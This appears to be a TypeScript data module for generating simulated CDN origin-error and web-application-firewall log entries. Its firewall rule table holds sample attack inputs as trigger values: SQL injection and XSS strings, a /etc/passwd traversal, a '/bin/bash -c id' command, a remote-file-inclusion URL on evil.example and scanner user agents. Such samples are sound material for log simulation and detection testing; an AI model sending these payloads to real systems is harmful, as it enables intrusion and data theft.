// The vocabulary generated entries are drawn from: plain data. The entry modules render it once per
// zone into pre-escaped JSON pieces, so an entry is assembled from a few strings at serving time.

/** Expands `[value, weight]` pairs into a list where a uniform pick follows the weights. */
export function weighted<T>(pairs: ReadonlyArray<readonly [T, number]>): T[] {
  return pairs.flatMap(([value, weight]) => Array<T>(weight).fill(value));
}

export interface ServerZone {
  code: string;
  id: number;
}

export const SERVER_ZONES: readonly ServerZone[] = [
  { code: 'DE', id: 1 },
  { code: 'UK', id: 2 },
  { code: 'FR', id: 3 },
  { code: 'NY', id: 4 },
  { code: 'LA', id: 5 },
  { code: 'SG', id: 6 },
  { code: 'SYD', id: 7 },
  { code: 'BR', id: 8 },
  { code: 'JP', id: 9 },
];

// ---- origin error logs (API-NOTES lists the error codes) ----

export interface OriginError {
  code: string;
  message: string;
  /** Status codes seen with this error; a pick is uniform over the list. */
  statuses: readonly number[];
  weight: number;
}

export const ORIGIN_ERRORS: readonly OriginError[] = [
  {
    code: 'http_timeout',
    message: 'The origin did not respond within 30 seconds',
    statuses: [504],
    weight: 30,
  },
  {
    code: 'http_request_failure',
    message: 'The origin answered with an error status',
    statuses: [500, 502, 503, 503],
    weight: 20,
  },
  {
    code: 'http_request_exception',
    message: 'An error occurred while sending the request to the origin',
    statuses: [502],
    weight: 15,
  },
  { code: 'dns_lookup', message: 'DNS lookup of the origin hostname failed', statuses: [502], weight: 8 },
  {
    code: 'network_socket_exception',
    message: 'The connection to the origin was refused or reset',
    statuses: [502],
    weight: 8,
  },
  { code: 'network_io_error', message: 'Reading from the origin failed', statuses: [502, 504], weight: 6 },
  { code: 'notfound_localdb', message: 'The file was not found in edge storage', statuses: [404], weight: 5 },
  { code: 'error', message: 'Unexpected error while contacting the origin', statuses: [500], weight: 3 },
  {
    code: 'http_invalid_range',
    message: 'The origin returned an invalid Content-Range',
    statuses: [416, 502],
    weight: 2,
  },
  {
    code: 'http_invalid_compression',
    message: 'The origin response could not be decompressed',
    statuses: [502],
    weight: 2,
  },
  {
    code: 'http_loop_detected',
    message: 'Request loop detected between the CDN and the origin',
    statuses: [508],
    weight: 1,
  },
];

/** Request paths; a number is appended to each. */
export const ORIGIN_PATHS: readonly string[] = [
  '/assets/js/app.bundle.js?v=',
  '/assets/css/site.css?v=',
  '/images/products/photo-',
  '/media/video/segment-',
  '/api/v1/catalog?page=',
  '/downloads/installer-build-',
  '/fonts/inter-var.woff2?rev=',
  '/thumbnails/w640/item-',
];

// ---- Shield event logs ----

export interface ShieldVariant {
  /** Path and query of the request. */
  path: string;
  method: string;
  /** UrlEncodedBody, null for requests without a body. */
  body: string | null;
  triggerKey: string;
  triggerValue: string;
}

export interface ShieldRule {
  ruleId: string;
  ruleGroup: string;
  severity: string;
  /** The rule name, the `Message` of the log. */
  message: string;
  variants: readonly ShieldVariant[];
  weight: number;
}

function variant(
  path: string,
  triggerKey: string,
  triggerValue: string,
  post?: { body: string },
): ShieldVariant {
  return { path, method: post ? 'POST' : 'GET', body: post?.body ?? null, triggerKey, triggerValue };
}

export const SHIELD_RULES: readonly ShieldRule[] = [
  {
    ruleId: '942100',
    ruleGroup: 'SQLI',
    severity: 'critical',
    message: 'SQL Injection Attack Detected via libinjection',
    variants: [
      variant('/products?id=1%27%20OR%20%271%27%3D%271', 'ARGS:id', "1' OR '1'='1"),
      variant('/login', 'ARGS:user', "admin'--", { body: 'user=admin%27--&pass=x' }),
    ],
    weight: 20,
  },
  {
    ruleId: '941100',
    ruleGroup: 'XSS',
    severity: 'critical',
    message: 'XSS Attack Detected via libinjection',
    variants: [
      variant('/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'ARGS:q', '<script>alert(1)</script>'),
      variant('/comment', 'ARGS:text', '"><img src=x onerror=alert(1)>', {
        body: 'text=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
      }),
    ],
    weight: 15,
  },
  {
    ruleId: '930120',
    ruleGroup: 'LFI',
    severity: 'critical',
    message: 'OS File Access Attempt',
    variants: [variant('/download?file=..%2F..%2Fetc%2Fpasswd', 'ARGS:file', '../../etc/passwd')],
    weight: 10,
  },
  {
    ruleId: '932160',
    ruleGroup: 'RCE',
    severity: 'critical',
    message: 'Remote Command Execution: Unix Shell Code Found',
    variants: [variant('/cgi-bin/run?cmd=%2Fbin%2Fbash%20-c%20id', 'ARGS:cmd', '/bin/bash -c id')],
    weight: 6,
  },
  {
    ruleId: '931130',
    ruleGroup: 'RFI',
    severity: 'critical',
    message: 'Possible Remote File Inclusion (RFI) Attack: Off-Domain Reference/Link',
    variants: [
      variant('/page?include=http%3A%2F%2Fevil.example%2Fx.txt', 'ARGS:include', 'http://evil.example/x.txt'),
    ],
    weight: 4,
  },
  {
    ruleId: '913100',
    ruleGroup: 'SCANNER',
    severity: 'warning',
    message: 'Found User-Agent associated with security scanner',
    variants: [
      variant('/wp-login.php', 'REQUEST_HEADERS:User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
      variant('/.git/config', 'REQUEST_HEADERS:User-Agent', 'Nikto/2.5.0'),
    ],
    weight: 12,
  },
  {
    ruleId: '920350',
    ruleGroup: 'PROTOCOL',
    severity: 'warning',
    message: 'Host header is a numeric IP address',
    variants: [variant('/', 'REQUEST_HEADERS:Host', '203.0.113.7')],
    weight: 8,
  },
  {
    ruleId: '920440',
    ruleGroup: 'PROTOCOL',
    severity: 'error',
    message: 'URL file extension is restricted by policy',
    variants: [
      variant('/.env', 'REQUEST_BASENAME', '.env'),
      variant('/backup/db.sql', 'REQUEST_BASENAME', 'db.sql'),
    ],
    weight: 10,
  },
  {
    ruleId: '949110',
    ruleGroup: 'BLOCKING',
    severity: 'critical',
    message: 'Inbound Anomaly Score Exceeded (Total Score: 15)',
    variants: [variant('/api/v2/users?filter=%7B%22%24ne%22%3Anull%7D', 'TX:ANOMALY_SCORE', '15')],
    weight: 8,
  },
  {
    ruleId: '100001',
    ruleGroup: 'RATELIMIT',
    severity: 'notice',
    message: 'Rate limit exceeded',
    variants: [variant('/api/v1/search?q=shoes', 'REMOTE_ADDR', 'requests: 120/10s')],
    weight: 7,
  },
];

/** The rule a spike names: a known one, or a custom rule with that id. */
export function shieldRuleById(ruleId: string): ShieldRule {
  return (
    SHIELD_RULES.find((r) => r.ruleId === ruleId) ?? {
      ruleId,
      ruleGroup: 'CUSTOM',
      severity: 'warning',
      message: `Custom rule ${ruleId} matched`,
      variants: [variant('/api/v1/orders', 'REQUEST_URI', '/api/v1/orders')],
      weight: 1,
    }
  );
}

/** [asn, country] pairs. */
export const ASNS: readonly (readonly [string, string])[] = [
  ['13335', 'US'],
  ['16509', 'US'],
  ['14061', 'NL'],
  ['24940', 'DE'],
  ['3320', 'DE'],
  ['16276', 'FR'],
  ['9009', 'GB'],
  ['4134', 'CN'],
  ['45090', 'CN'],
  ['12389', 'RU'],
  ['7922', 'US'],
  ['55286', 'SG'],
  ['8075', 'IE'],
];

export const USER_AGENTS: readonly string[] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
];

export const ACCEPTS: readonly string[] = ['*/*', 'text/html,application/xhtml+xml', 'application/json'];

/** Shield `status` labels by weight: most matches are blocked. */
export const SHIELD_STATUSES: readonly string[] = ['403', '403', '403', '200'];
